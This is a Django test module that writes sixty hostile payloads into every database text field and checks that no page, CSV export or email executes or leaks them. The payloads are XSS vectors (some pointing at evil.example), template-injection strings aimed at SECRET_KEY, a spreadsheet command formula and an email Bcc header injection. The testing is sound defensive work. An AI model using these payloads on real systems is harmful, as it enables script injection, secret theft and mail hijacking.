"""Hostile text in every text field of every row, on every page, in every export and every email.

Sixty payloads are written straight into the database, past every form. Each carries MARK as the name
of an attribute or a tag, so one that reaches the markup is found by parsing the page. The plain run
makes one pass, in which each field holds as many payloads as fit; the slow one makes more, with
other payloads first.
"""

from __future__ import annotations

import logging
import os
import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import quote

import pytest
from django.apps import apps
from django.core import mail
from django.db import models
from django.template import base
from django.test import Client
from django.urls import reverse

from core import csv_export
from inbox.channels import email
from orders.audit import record
from orders.models import AuditEntry, AuditKind, OrderAction
from orders.shopify_port import get_gateway
from orders.snapshot import OrderSnapshot
from shopify_sync.models import ShopConnection
from shopify_sync.setup import doctor
from tests.core.test_csv_export import is_formula, read_back
from tests.privacy import filling
from tests.support.orders.personal import filled
from tests.support.orders.stored import stored
from tests.support.pages.every_address import ALL, Visitors, model_row
from tests.support.people.two_teams import GATEWAY, TwoTeams, two_teams

pytestmark = pytest.mark.django_db
MARK: Final = "zq9"
SECRET: Final = "never-on-a-page-4711"
PAYLOADS: Final = (
    # Out of text
    "<script zq9>alert(1)</script>",
    "<img zq9 src=x onerror=alert(1)>",
    "<svg/zq9/onload=alert(1)>",
    "<svg zq9><script>alert(1)</script></svg>",
    "<iframe zq9 srcdoc='<script>alert(1)</script>'>",
    "<body zq9 onload=alert(1)>",
    "<details zq9 open ontoggle=alert(1)>",
    "<math zq9><mtext><style><img src=x onerror=alert(1)>",
    "<a zq9 href=javascript:alert(1)>x</a>",
    "<form zq9 action=//evil.example><button>",
    "<base zq9 href=//evil.example/>",
    "<meta zq9 http-equiv=refresh content=0;//evil.example>",
    "<link zq9 rel=stylesheet href=//evil.example>",
    "<object zq9 data=//evil.example></object>",
    "<embed zq9 src=//evil.example>",
    "<video zq9><source onerror=alert(1)></video>",
    "<input zq9 autofocus onfocus=alert(1)>",
    "<marquee zq9 onstart=alert(1)>",
    "<template zq9><b>",
    "<table zq9><td background=javascript:alert(1)>",
    "<ScRiPt zq9>alert(1)</sCrIpT>",
    "<<b zq9>>x",
    "<b\tzq9\n>x",
    "<b/zq9>x",
    "<zq9>x</zq9>",
    "<div zq9 hx-get=//evil.example hx-trigger=load>",
    "<div zq9 data-live-position=0>",
    # Out of places where text isn't parsed
    "</script><b zq9>",
    "</style><b zq9>",
    "</title><b zq9>",
    "</textarea><b zq9>",
    "</option></select><b zq9>",
    "</noscript><b zq9>",
    "</template><b zq9>",
    "--><b zq9>",
    "]]><b zq9>",
    "<!--><b zq9>-->",
    # Out of attributes
    '" zq9="',
    "' zq9='",
    '" autofocus onfocus=alert(1) zq9 x="',
    "' onmouseover=alert(1) zq9 x='",
    '"><b zq9>',
    "'><b zq9>",
    "x zq9 onclick=alert(1)",
    "` zq9 onerror=alert(1) `",
    # Escaped already
    "&lt;b zq9&gt;",
    "&#60;b zq9&#62;",
    "&quot; zq9=&quot;",
    "%3Cb zq9%3E",
    "\\u003cb zq9\\u003e",
    # For addresses
    "javascript:alert('zq9')",
    "JaVaScRiPt:alert('zq9')",
    " \tjava\nscript:alert('zq9')",
    "data:text/html,<b zq9>",
    "vbscript:msgbox('zq9')",
    # For templates, spreadsheets and emails
    "{{ settings.SECRET_KEY }}{% debug %}",
    "{0.__class__.__init__.__globals__}%(SECRET_KEY)s",
    "${7*7}#{7*7}<%= 7*7 %>",
    "=cmd|'/C zq9'!A0",
    "x\r\nBcc: zq9@evil.example",
)
# What the database, the engine or a login needs as it is; people and shops can't choose it.
MACHINE: Final = frozenset(
    [
        "password",
        "username",
        "domain",
        "currency",
        "shop_currency",
        "spent_currency",
        "gid",
        "customer_gid",
        "nonce",
        "digest",
        "marker",
        "origin",
        "job_gid",
        "refund_gid",
        "key",
        "name_key",
        "external_id",
        "key_hash",
        "key_prefix",
        "session_key",
        "session_data",
        "codename",
        "app_label",
        "model",
        "hash",
        "prev_hash",
        "key_id",
        "fulfillment_gid",
        "order_gid",
        "merged_into",
        "name_digest",
        "body_sha256",
        "webhook_id",
        "fingerprint",
        "sealed_scope",
        "sealed_secret",
        "secret",
        "access_token",
        "api_secret",
        "refresh_token",
        "previous_refresh_token",
        "previous_api_secret",
        "document",
        "object_id",
        "topics",
        "time_zone",
        "uid",
    ]
)
# Rows that are Django's own, or that triggers keep from being changed.
KEPT_MODELS: Final = frozenset(
    {
        "auth.Permission",
        "auth.Group",
        "contenttypes.ContentType",
        "orders.AuditEntry",
        "orders.AuditSeal",
        "orders.OrderAction",
    }
)
# Parts of a snapshot that the engine compares or counts with.
IDS: Final = re.compile(r"gid|currency|country_code|\.(financial|fulfillment)_status$|unread")
ASKED_AS: Final = {
    "inbox": "supervisor",
    "order": "supervisor",
    "sidebar": "frame",
    "sidebar_window": "supervisor",
    "admin": "administrator",
}
ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "data", "srcdoc"})
DOING: Final = ("javascript:", "data:", "vbscript:")
QUERIES: Final = ("inbox:list", "inbox:list_rows", "inbox:order_search", "login")


class Turn:
    """The text for each field: as many payloads as fit, beginning elsewhere for each field."""

    def __init__(self, number: int) -> None:
        self._next = number

    def text(self, room: int | None = None, end: str = "") -> str:
        """At most `room` characters, with `end` in it. Every call goes on where the last ended."""
        room = 4000 if room is None else room - len(end)
        picked: list[str] = []
        while len(picked) < len(PAYLOADS):
            payload = PAYLOADS[self._next % len(PAYLOADS)]
            if picked and len(payload) > room:
                break
            picked.append(payload[:room])
            room -= len(payload)
            self._next += 1
            if room <= 0:
                break
        return "".join(picked) + end


# --- The world -----------------------------------------------------------------------------------
@pytest.fixture
def world(settings: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[TwoTeams]:
    settings.ORDERS_GATEWAY = GATEWAY
    settings.SECRET_KEY = f"{SECRET}-{settings.SECRET_KEY}"
    get_gateway.cache_clear()
    made = two_teams()
    ShopConnection.objects.create(
        store=made.north.store, access_token="t", api_secret=filling.SECRET.decode()
    )
    filling.fill(made.north.store, made.north.channel, made.people["agent"], 1)
    monkeypatch.setattr(doctor, "examine", lambda *_args, **_kwargs: [])
    logging.disable(logging.CRITICAL)
    yield made
    logging.disable(logging.NOTSET)
    get_gateway.cache_clear()


def poison(world: TwoTeams, turn: Turn) -> int:
    """Write hostile text into every field of every row; return how many fields."""
    order = world.north.order
    hostile: OrderSnapshot = filled(
        OrderSnapshot, lambda name: "EUR" if IDS.search(name) else turn.text(200)
    )
    assert hostile.customer
    shown = replace(
        order.snapshot,
        **{
            name: getattr(hostile, name)
            for name in (
                "name", "note", "tags", "attributes", "discount_codes", "channel", "cancel_staff_note",
                "status_page_url", "shipping_address", "billing_address", "shipping_title", "phone",
                "fulfillments", "returns", "refunds", "fees", "risk_level",
            )
        },
        customer=replace(hostile.customer, gid="gid://shopify/Customer/77"),
        lines=tuple(
            replace(own, title=turn.text(400), variant_title=turn.text(400), sku=turn.text(200))
            for own in order.snapshot.lines
        ),
    )  # fmt: skip
    stored(shown, order.store)
    record(AuditKind.EXPORT, actor=None, before=turn.text(40), said=turn.text(2000))
    _add_action(world, turn)
    return sum(_poison_rows(model, turn) for model in apps.get_models())


def _add_action(world: TwoTeams, turn: Turn) -> None:
    """Add an ended refund; what an action has proposed and sent can't be changed later."""
    number = 1000 + OrderAction.objects.count()
    words = {"amount": "5.00", "staff_note": turn.text(200), "reason_label": turn.text(90)}
    filling.act(
        world.north.order,
        number,
        world.people["agent"],
        proposal={**words, "facts": {"refunded": "0 EUR"}},
        staff_note=turn.text(255),
        why_approval=turn.text(255),
        message=turn.text(2000),
    )


def _poison_rows(model: type[models.Model], turn: Turn) -> int:
    if model._meta.label in KEPT_MODELS:
        return 0
    fields = [f for f in model._meta.concrete_fields if _is_text(f)]
    constraints = [c for c in model._meta.constraints if isinstance(c, models.UniqueConstraint)]
    unique = {f.name for f in fields if f.unique} | {n for c in constraints for n in c.fields}
    for row in model._default_manager.all():
        changed: dict[str, Any] = {}
        for field in fields:
            old = getattr(row, field.attname)
            if isinstance(field, models.JSONField):
                changed[field.attname] = _hostile(old, turn)
            else:
                end = f" {row.pk}" if field.name in unique else ""
                changed[field.attname] = turn.text(field.max_length, end)
        if changed:
            model._default_manager.filter(pk=row.pk).update(**changed)
    return len(fields)


def _is_text(field: models.Field[Any, Any]) -> bool:
    kinds = (models.CharField, models.TextField, models.JSONField)
    return isinstance(field, kinds) and not field.choices and field.attname not in MACHINE


def _hostile(value: Any, turn: Turn) -> Any:
    """The same JSON with hostile text in every place."""
    if isinstance(value, dict):
        return {k: _hostile(v, turn) for k, v in value.items()}
    if isinstance(value, list):
        return [_hostile(v, turn) for v in value]
    if isinstance(value, str):
        return turn.text(200)
    return value


# --- What is looked at ----------------------------------------------------------------------------
class Parsed(HTMLParser):
    """Finds payloads that became markup, or an address that does something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.troubles: list[str] = []
        self.tags = 0
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags += 1
        self._raw = tag if tag in {"script", "style"} else ""
        if MARK in tag or any(MARK in name for name, _value in attrs):
            self.troubles.append(f"markup: {self.get_starttag_text()}")
        for name, value in attrs:
            target = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            is_picture = tag == "img" and target.startswith("data:image/")
            if name in ADDRESSES and target.startswith(DOING) and not is_picture:
                self.troubles.append(f"address: {self.get_starttag_text()}")

    def handle_endtag(self, tag: str) -> None:
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw == "style" and MARK in data:
            self.troubles.append(f"in <{self._raw}>: {data[:100]}")


def in_page(text: str) -> list[str]:
    parsed = Parsed()
    parsed.feed(text)
    parsed.close()
    found = parsed.troubles
    if SECRET in text:
        found.append("the secret key")
    return found


def pages(world: TwoTeams, turn: Turn) -> Iterator[tuple[str, Any]]:
    """Every address that shows something, and the answers to hostile queries."""
    visitors = Visitors(world)
    for address in ALL:
        namespace = address.name.rpartition(":")[0]
        identity = ASKED_AS.get(namespace, "administrator")
        if address.name.startswith("/api/"):
            continue
        if namespace == "admin" and "<" in address.route and not model_row(address):
            continue
        yield address.name, visitors.ask(identity, "GET", address, world.north, world.north)
        if address.name in QUERIES or address.name.endswith("_changelist"):
            client = visitors.client(identity)
            url = re.sub(r"[\^$]", "", address.route)
            yield f"{address.name}?q=", client.get(f"{url}?q={quote(turn.text(300))}")
    yield "login, refused", Client().post("/login/", {"login": turn.text(150), "password": "x"})
    admin = visitors.client("administrator")
    days = {"since": "2026-01-01", "until": "2026-12-31"}
    yield "refund report", admin.post(reverse("admin:orders_money_csv"), days)
    chosen = {
        "action": "download_csv",
        "_selected_action": AuditEntry.objects.values_list("pk", flat=True),
    }
    yield "audit log", admin.post(reverse("admin:orders_auditentry_changelist"), chosen)


def troubles(world: TwoTeams, turn: Turn) -> tuple[list[str], int, int]:
    """What is wrong; how many pages were read, and how many of them show a payload."""
    found, count, with_payload = [], 0, 0
    for name, answer in pages(world, turn):
        kind = answer.headers.get("Content-Type", "")
        text = (
            b"".join(answer.streaming_content).decode("utf-8", "replace")
            if answer.streaming and not hasattr(answer.streaming_content, "__aiter__")
            else "" if answer.streaming else answer.content.decode("utf-8", "replace")
        )  # fmt: skip
        if answer.status_code >= 500:
            found.append(f"{name}: {answer.status_code}")
        if "csv" in kind:
            found += [
                f"{name}: formula {cell!r}" for cell in read_back(iter([text])) if is_formula(cell)
            ]
        elif "html" in kind:
            found += [f"{name}: {trouble}" for trouble in in_page(text)]
        count += 1
        with_payload += MARK in text
    return found, count, with_payload


# --- The tests ------------------------------------------------------------------------------------
@pytest.mark.slow
def test_no_page_runs_what_a_field_holds(world: TwoTeams) -> None:
    turn = Turn(0)
    assert poison(world, turn) > 90
    found, count, with_payload = troubles(world, turn)
    assert "\n".join(found) == ""
    assert count > 150
    assert with_payload > 60


@pytest.mark.slow
def test_every_payload_in_every_field(world: TwoTeams) -> None:
    """A pass for each payload that a field may begin with: two in CI, all with INJECTION_PASSES=60."""
    passes = int(os.environ.get("INJECTION_PASSES", "2"))
    for start in range(1, len(PAYLOADS), len(PAYLOADS) // passes):
        turn = Turn(start)
        poison(world, turn)
        found, _count, _with_payload = troubles(world, turn)
        assert "\n".join(found) == "", start


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_email_says_it_and_goes_to_nobody_else(payload: str) -> None:
    email.send_mail(to="jane@example.com", subject=payload, text=payload, message_id="m-1")
    (sent,) = mail.outbox
    read = sent.message()
    assert read.get_all("To") == ["jane@example.com"]
    assert (read["Bcc"], read["Cc"], read.get_content_type()) == (None, None, "text/plain")
    assert sent.recipients() == ["jane@example.com"]
    assert payload in sent.body


# --- Controls -------------------------------------------------------------------------------------
def test_without_escaping_it_is_noticed(world: TwoTeams, monkeypatch: pytest.MonkeyPatch) -> None:
    turn = Turn(0)
    poison(world, turn)
    monkeypatch.setattr(base, "conditional_escape", str)
    only = [a for a in ALL if a.name in {"inbox:conversation", "admin:inbox_contact_changelist"}]
    monkeypatch.setattr(f"{__name__}.ALL", only)
    found, _count, _with_payload = troubles(world, turn)
    assert {line.partition(":")[2].partition(":")[0] for line in found} >= {"conversation"}
    assert any("markup" in line for line in found)


def test_an_unguarded_export_is_noticed(world: TwoTeams, monkeypatch: pytest.MonkeyPatch) -> None:
    turn = Turn(PAYLOADS.index("=cmd|'/C zq9'!A0"))
    record(AuditKind.EXPORT, actor=None, before=turn.text(40))
    monkeypatch.setattr(csv_export, "harmless", str)
    monkeypatch.setattr(f"{__name__}.ALL", ())
    found, _count, _with_payload = troubles(world, turn)
    assert any("audit log: formula" in line for line in found)


@pytest.mark.parametrize("payload", PAYLOADS[:27])
def test_a_payload_that_became_markup_is_found(payload: str) -> None:
    assert in_page(f"<p>{payload}</p>")


@pytest.mark.parametrize(
    "scheme", ["javascript:", "JaVaScRiPt:", " \tjava\nscript:", "data:text/html,"]
)
def test_an_address_that_does_something_is_found(scheme: str) -> None:
    assert in_page(f'<a href="{scheme}zq9">x</a>')
